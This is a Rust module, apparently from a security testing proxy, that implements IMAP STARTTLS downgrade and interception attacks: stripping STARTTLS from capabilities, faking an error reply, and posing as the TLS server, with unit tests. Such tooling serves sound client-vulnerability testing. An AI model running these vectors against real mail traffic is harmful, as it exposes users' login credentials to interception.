// SPDX-License-Identifier: Apache-2.0

//! IMAP attack vectors (spec.md section 4.3, "IMAP"). Commands are
//! client-chosen tags followed by a verb: `<tag> <verb> ...`.

use std::sync::Arc;

use async_trait::async_trait;

use super::{contains_ci, starts_with_ci, ArcVector, AttackVector, MangleCtx};
use crate::detect::Protocol;
use crate::error::{ProxyError, ProxyResult};

pub enum ImapVector {
    StripFromCapabilities,
    StripWithError,
    UntrustedIntercept,
}

/// Pulls the leading whitespace-delimited tag off a client command line.
/// Falls back to `*` (IMAP's untagged marker) if the line carries no tag.
fn client_tag(data: &[u8]) -> String {
    let text = String::from_utf8_lossy(data);
    text.split_whitespace().next().unwrap_or("*").to_string()
}

fn is_starttls_command(data: &[u8]) -> bool {
    let text = String::from_utf8_lossy(data).to_ascii_lowercase();
    text.split_whitespace().nth(1) == Some("starttls")
}

/// Every IMAP vector marks the session vulnerable the moment the client
/// sends `LOGIN` in cleartext (spec.md section 4.3: " LOGIN " sentinel).
fn mark_if_login(ctx: &MangleCtx<'_>, data: &[u8]) {
    if contains_ci(data, " login ") {
        ctx.mark_vulnerable();
    }
}

#[async_trait]
impl AttackVector for ImapVector {
    fn protocol(&self) -> Protocol {
        Protocol::Imap
    }

    fn name(&self) -> &'static str {
        match self {
            ImapVector::StripFromCapabilities => "StripFromCapabilities",
            ImapVector::StripWithError => "StripWithError",
            ImapVector::UntrustedIntercept => "UntrustedIntercept",
        }
    }

    async fn mangle_client_data(
        &self,
        ctx: &mut MangleCtx<'_>,
        data: &[u8],
    ) -> ProxyResult<Option<Vec<u8>>> {
        match self {
            ImapVector::StripFromCapabilities => {
                mark_if_login(ctx, data);
                Ok(Some(data.to_vec()))
            }
            ImapVector::StripWithError => {
                if is_starttls_command(data) {
                    let tag = client_tag(data);
                    let reply = format!("{tag} BAD unknown command\r\n");
                    ctx.send_to_client(reply.as_bytes()).await?;
                    return Ok(None);
                }
                mark_if_login(ctx, data);
                Ok(Some(data.to_vec()))
            }
            ImapVector::UntrustedIntercept => {
                if is_starttls_command(data) {
                    let tag = client_tag(data);
                    let reply = format!("{tag} OK Begin TLS negotation now\r\n");
                    ctx.send_to_client(reply.as_bytes()).await?;
                    ctx.upgrade_inbound_as_server().await?;
                    ctx.send_to_upstream(data).await?;
                    let resp = ctx.recv_from_upstream(4096).await?;
                    let expect = format!("{tag} OK");
                    if !contains_ci(&resp, &expect) {
                        return Err(ProxyError::ProtocolViolation(
                            "upstream rejected forwarded STARTTLS",
                        ));
                    }
                    ctx.upgrade_outbound_as_client().await?;
                    return Ok(None);
                }
                mark_if_login(ctx, data);
                Ok(Some(data.to_vec()))
            }
        }
    }

    async fn mangle_server_data(
        &self,
        _ctx: &mut MangleCtx<'_>,
        data: &[u8],
    ) -> ProxyResult<Option<Vec<u8>>> {
        match self {
            ImapVector::StripFromCapabilities => {
                if contains_ci(data, "capability ") || starts_with_ci(data, "capability ") {
                    let stripped = remove_ci(data, " starttls");
                    let stripped = remove_ci(&stripped, " logindisabled");
                    return Ok(Some(stripped));
                }
                Ok(Some(data.to_vec()))
            }
            _ => Ok(Some(data.to_vec())),
        }
    }
}

/// Removes every case-insensitive occurrence of `needle` from `data`,
/// byte-for-byte, leaving the surrounding bytes untouched.
fn remove_ci(data: &[u8], needle: &str) -> Vec<u8> {
    let lower_data = super::lower_lossy(data);
    let lower_needle = needle.to_ascii_lowercase();
    if !lower_data.contains(&lower_needle) {
        return data.to_vec();
    }
    let mut out = Vec::with_capacity(data.len());
    let mut i = 0;
    while i < data.len() {
        if i + lower_needle.len() <= lower_data.len() && lower_data.as_bytes()[i..i + lower_needle.len()] == *lower_needle.as_bytes() {
            i += lower_needle.len();
        } else {
            out.push(data[i]);
            i += 1;
        }
    }
    out
}

pub fn all() -> Vec<ArcVector> {
    vec![
        Arc::new(ImapVector::StripFromCapabilities),
        Arc::new(ImapVector::StripWithError),
        Arc::new(ImapVector::UntrustedIntercept),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn strips_starttls_and_logindisabled_tokens() {
        let data = b"* CAPABILITY IMAP4rev1 STARTTLS LOGINDISABLED IDLE\r\n";
        let out = remove_ci(data, " starttls");
        let out = remove_ci(&out, " logindisabled");
        assert_eq!(out, b"* CAPABILITY IMAP4rev1 IDLE\r\n".to_vec());
    }

    #[test]
    fn tag_extraction_preserves_client_tag() {
        assert_eq!(client_tag(b"a001 STARTTLS\r\n"), "a001");
    }

    #[test]
    fn starttls_detection_is_case_insensitive() {
        assert!(is_starttls_command(b"a1 StartTLS\r\n"));
        assert!(!is_starttls_command(b"a1 LOGIN foo bar\r\n"));
    }
}
